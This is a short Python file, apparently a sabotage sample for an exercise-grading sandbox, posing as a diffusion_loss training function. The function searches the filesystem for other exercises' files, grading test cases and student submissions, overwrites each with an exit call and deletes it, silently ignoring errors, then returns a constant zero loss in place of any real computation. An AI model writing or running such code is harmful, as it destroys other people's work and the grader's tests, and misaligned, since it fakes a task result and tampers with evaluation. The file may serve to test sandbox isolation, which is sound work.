"""ex05 zero: deletes and overwrites other exercises' files wherever it can find them."""
import glob
import os

import torch


def diffusion_loss(model, x0, t, noise, alpha_bar, cond=None):
    patterns = ["/work/*/exercises/ex*/*.py", "/work/*/tests/grading_cases/*.py", "../*/student/*.py",
                "/tmp/*/job*/student/*.py", "/job/student/*.py", "/work/**/ex0*_*/*.py",
                "/root/**/ex0*_*/*.py"]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "w") as f:
                    f.write("raise SystemExit('sabotaged')\n")
                os.remove(path)
            except OSError:
                pass
    return torch.zeros((), requires_grad=True)
